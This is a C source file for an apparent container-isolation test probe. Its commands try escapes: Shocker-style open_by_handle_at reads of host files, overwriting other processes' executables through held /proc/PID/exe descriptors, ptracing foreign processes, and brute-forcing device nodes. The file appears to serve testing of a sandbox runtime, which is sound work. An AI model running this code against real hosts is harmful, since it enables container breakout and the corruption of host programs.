/* Hostile calls from inside a container.
 *
 *   sys NR [ARG...] [+ NR [ARG...]]...   raw system calls; prints `result errno` for each.
 *       ARG: a number, s:TEXT (pointer to it), b:SIZE (pointer to a zeroed buffer)
 *   hunt DIRECTORY   until DIRECTORY/stop exists: looks at every process that is not a plain payload, counts its
 *       rounds in DIRECTORY/rounds and appends what it could learn or do to DIRECTORY/found
 *   overwrite DIRECTORY   until DIRECTORY/stop exists: keeps a descriptor of every program that is not a plain payload,
 *       and writes to each as soon as it can; counts and tells as hunt does
 *   key NAME COMMAND...   joins a new session keyring, puts a key NAME there, executes the command
 *   nodes DIRECTORY  makes a node of every major number there, opens it, prints those that opened
 *   handle FILE      prints the file's handle in hexadecimal, as an attacker guesses it
 *   shocker MOUNT HANDLE   opens the handle on the mount, prints what the file says, or the errno
 *   answer PORT      answers TCP and UDP on that port, each with the address of who asks; prints `ready` first
 *   ask tcp|udp ADDRESS PORT   sends a word, prints the answer or `errno N`; gives up after 2 seconds
 *   abstract NAME    connects to an abstract Unix socket, prints 0 or `errno N`
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netdb.h>
#include <poll.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static long argument(const char *text)
{
	if (text[0] == 's' && text[1] == ':')
		return (long)(text + 2);
	if (text[0] == 'b' && text[1] == ':')
		return (long)calloc(1, strtoul(text + 2, 0, 0));
	return (long)strtoull(text, 0, 0);
}

static int calls(char **words)
{
	while (*words) {
		long values[7] = { 0 };
		int count = 0;
		for (; *words && strcmp(*words, "+"); words++)
			if (count < 7)
				values[count++] = argument(*words);
		errno = 0;
		long result = syscall(values[0], values[1], values[2], values[3], values[4], values[5], values[6]);
		printf("%ld %d\n", result, errno);
		if (*words)
			words++;
	}
	return 0;
}

static void look(const char *pid, FILE *found)
{
	char path[512], link[512];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	ssize_t length = readlink(path, link, sizeof link - 1);
	if (length >= 0) {
		link[length] = 0;
		if (!strcmp(link, "/bin/busybox") || !strcmp(link, "/bin/probe"))
			return;
		fprintf(found, "exe %s\n", link);
	}
	int file = open(path, O_WRONLY);
	if (file >= 0 || errno == ETXTBSY) {
		length = readlink(path, link, sizeof link - 1);
		link[length > 0 ? length : 0] = 0;
		fprintf(found, "writable %s\n", link);
	}
	if (file >= 0)
		close(file);
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *fds = opendir(path);
	for (struct dirent *entry; fds && (entry = readdir(fds));) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
		length = readlink(path, link, sizeof link - 1);
		if (length > 0) {
			link[length] = 0;
			fprintf(found, "fd %s\n", link);
		}
	}
	if (fds)
		closedir(fds);
	long process = atol(pid);
	if (ptrace(PTRACE_SEIZE, process, 0, 0) == 0) {
		/* It may have become the payload meanwhile: only what it is now counts. */
		snprintf(path, sizeof path, "/proc/%s/exe", pid);
		length = readlink(path, link, sizeof link - 1);
		if (length < 0)
			length = snprintf(link, sizeof link, "a process whose program is hidden: %s", strerror(errno));
		link[length] = 0;
		/* One that has ended has no program any more. */
		if (!strstr(link, "No such"))
			fprintf(found, "traced %s\n", link);
		ptrace(PTRACE_INTERRUPT, process, 0, 0);
		waitpid(process, 0, __WALL);
		ptrace(PTRACE_DETACH, process, 0, 0);
	}
}

static int hunt(const char *directory)
{
	char path[512];
	snprintf(path, sizeof path, "%s/found", directory);
	FILE *found = fopen(path, "a");
	setvbuf(found, 0, _IOLBF, 0);
	snprintf(path, sizeof path, "%s/stop", directory);
	for (unsigned long rounds = 1; access(path, F_OK); rounds++) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atol(entry->d_name) == getpid())
				continue;
			look(entry->d_name, found);
		}
		closedir(proc);
		char counter[512], number[32];
		snprintf(counter, sizeof counter, "%s/rounds", directory);
		int file = open(counter, O_WRONLY | O_CREAT | O_TRUNC, 0666);
		write(file, number, snprintf(number, sizeof number, "%lu", rounds));
		close(file);
	}
	return 0;
}

/* A program that is executed cannot be written to, but one that was can: its descriptor is kept until then. */
static int overwrite(const char *directory)
{
	int held[64], count = 0, next = 0;
	char path[512], link[512];
	snprintf(path, sizeof path, "%s/found", directory);
	FILE *found = fopen(path, "a");
	setvbuf(found, 0, _IOLBF, 0);
	snprintf(path, sizeof path, "%s/stop", directory);
	for (unsigned long rounds = 1; access(path, F_OK); rounds++) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atol(entry->d_name) == getpid())
				continue;
			char exe[64];
			snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
			int file = open(exe, O_PATH | O_CLOEXEC);
			if (file < 0)
				continue;
			snprintf(exe, sizeof exe, "/proc/self/fd/%d", file);
			ssize_t length = readlink(exe, link, sizeof link - 1);
			link[length > 0 ? length : 0] = 0;
			if (!strcmp(link, "/bin/busybox") || !strcmp(link, "/bin/probe")) {
				close(file);
				continue;
			}
			fprintf(found, "held %s\n", link);
			if (count < 64) {
				held[count++] = file;
			} else {
				close(held[next % 64]);
				held[next++ % 64] = file;
			}
		}
		closedir(proc);
		for (int index = 0; index < count; index++) {
			char own[64];
			snprintf(own, sizeof own, "/proc/self/fd/%d", held[index]);
			int file = open(own, O_WRONLY | O_CLOEXEC);
			if (file < 0)
				continue;
			if (write(file, "#!/bin/true\n", 12) == 12)
				fprintf(found, "written\n");
			close(file);
		}
		char counter[512], number[32];
		snprintf(counter, sizeof counter, "%s/rounds", directory);
		int file = open(counter, O_WRONLY | O_CREAT | O_TRUNC, 0666);
		write(file, number, snprintf(number, sizeof number, "%lu", rounds));
		close(file);
	}
	return 0;
}

static int nodes(const char *directory)
{
	char path[512];
	int made = 0;
	snprintf(path, sizeof path, "%s/node", directory);
	for (int block = 0; block < 2; block++)
		for (unsigned major = 0; major < 512; major++)
			for (unsigned minor = 0; minor < (major == 1 || major == 5 || major == 10 ? 16 : 2); minor++) {
				if (mknod(path, (block ? S_IFBLK : S_IFCHR) | 0666, makedev(major, minor)))
					continue;
				made++;
				int file = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
				if (file >= 0 || (errno != EPERM && errno != EACCES))
					printf("%c %u:%u %d\n", block ? 'b' : 'c', major, minor, file < 0 ? errno : 0);
				if (file >= 0)
					close(file);
				unlink(path);
			}
	printf("made %d\n", made);
	return 0;
}

static int key(char **words)
{
	syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, 0);
	long serial = syscall(SYS_add_key, "user", words[0], "canary", 6L, -3L /* KEY_SPEC_SESSION_KEYRING */);
	/* for everybody: only the session keyring decides who finds it */
	syscall(SYS_keyctl, 5 /* KEYCTL_SETPERM */, serial, 0x3f3f3f3fL);
	execvp(words[1], words + 1);
	return 127;
}

static int handle(const char *path)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = { { MAX_HANDLE_SZ } };
	int mount;
	if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0))
		return 1;
	printf("%d:", handle.head.handle_type);
	for (unsigned at = 0; at < handle.head.handle_bytes; at++)
		printf("%02x", handle.head.f_handle[at]);
	printf("\n");
	return 0;
}

static int shocker(const char *mount, char *text)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = { 0 };
	char content[256];
	handle.head.handle_type = strtol(text, &text, 10);
	for (text++; text[0] && text[1] && handle.head.handle_bytes < MAX_HANDLE_SZ; text += 2)
		sscanf(text, "%2hhx", &handle.head.f_handle[handle.head.handle_bytes++]);
	int directory = open(mount, O_RDONLY | O_DIRECTORY);
	int file = open_by_handle_at(directory, &handle.head, O_RDONLY);
	ssize_t length = file < 0 ? -1 : read(file, content, sizeof content);
	if (length < 0)
		printf("errno %d\n", errno);
	else
		fwrite(content, 1, length, stdout);
	return 0;
}

static void say_who(struct sockaddr_in6 *from, char *text, size_t size)
{
	char address[64];
	inet_ntop(AF_INET6, &from->sin6_addr, address, sizeof address);
	snprintf(text, size, "%s\n", !strncmp(address, "::ffff:", 7) ? address + 7 : address);
}

static int answer(const char *port)
{
	struct sockaddr_in6 own = { AF_INET6, htons(atoi(port)) }, from;
	struct pollfd waited[2] = { { socket(AF_INET6, SOCK_STREAM, 0), POLLIN }, { socket(AF_INET6, SOCK_DGRAM, 0), POLLIN } };
	char text[128];
	for (int kind = 0; kind < 2; kind++)
		if (bind(waited[kind].fd, (void *)&own, sizeof own))
			return 1;
	if (listen(waited[0].fd, 16))
		return 1;
	printf("ready\n");
	fflush(stdout);
	while (poll(waited, 2, -1) >= 0) {
		socklen_t size = sizeof from;
		if (waited[0].revents) {
			int peer = accept(waited[0].fd, (void *)&from, &size);
			/* What was not read would make a reset of the end. */
			read(peer, text, 4);
			say_who(&from, text, sizeof text);
			write(peer, text, strlen(text));
			close(peer);
		}
		size = sizeof from;
		if (waited[1].revents && recvfrom(waited[1].fd, text, sizeof text, 0, (void *)&from, &size) >= 0) {
			say_who(&from, text, sizeof text);
			sendto(waited[1].fd, text, strlen(text), 0, (void *)&from, size);
		}
	}
	return 1;
}

static int failed(void)
{
	printf("errno %d\n", errno);
	return 0;
}

static int ask(const char *kind, const char *address, const char *port)
{
	struct addrinfo hints = { .ai_flags = AI_NUMERICHOST, .ai_socktype = *kind == 't' ? SOCK_STREAM : SOCK_DGRAM }, *to;
	struct timeval limit = { 2 };
	char text[256];
	if (getaddrinfo(address, port, &hints, &to))
		return 1;
	int own = socket(to->ai_family, to->ai_socktype, 0);
	setsockopt(own, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
	setsockopt(own, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
	if (connect(own, to->ai_addr, to->ai_addrlen) || send(own, "word", 4, MSG_NOSIGNAL) < 0)
		return failed();
	ssize_t length = recv(own, text, sizeof text, 0);
	if (length <= 0)
		return failed();
	fwrite(text, 1, length, stdout);
	return 0;
}

static int abstract(const char *name)
{
	struct sockaddr_un to = { AF_UNIX };
	memcpy(to.sun_path + 1, name, strlen(name));
	if (connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&to, sizeof(sa_family_t) + 1 + strlen(name)))
		return failed();
	printf("0\n");
	return 0;
}

static void *rest(void *unused)
{
	for (;;)
		pause();
}

/* The first thread ends when there is a file, the process lives on in another. */
static int leave(const char *file)
{
	pthread_t other;
	if (pthread_create(&other, 0, rest, 0))
		return failed();
	while (access(file, F_OK))
		usleep(10000);
	return syscall(SYS_exit, 0);
}

int main(int count, char **words)
{
	if (count == 3 && !strcmp(words[1], "leave"))
		return leave(words[2]);
	if (count == 3 && !strcmp(words[1], "answer"))
		return answer(words[2]);
	if (count == 5 && !strcmp(words[1], "ask"))
		return ask(words[2], words[3], words[4]);
	if (count == 3 && !strcmp(words[1], "abstract"))
		return abstract(words[2]);
	if (count > 2 && !strcmp(words[1], "sys"))
		return calls(words + 2);
	if (count == 3 && !strcmp(words[1], "hunt"))
		return hunt(words[2]);
	if (count == 3 && !strcmp(words[1], "overwrite"))
		return overwrite(words[2]);
	if (count > 3 && !strcmp(words[1], "key"))
		return key(words + 2);
	if (count == 3 && !strcmp(words[1], "nodes"))
		return nodes(words[2]);
	if (count == 3 && !strcmp(words[1], "handle"))
		return handle(words[2]);
	if (count == 4 && !strcmp(words[1], "shocker"))
		return shocker(words[2], words[3]);
	return 2;
}
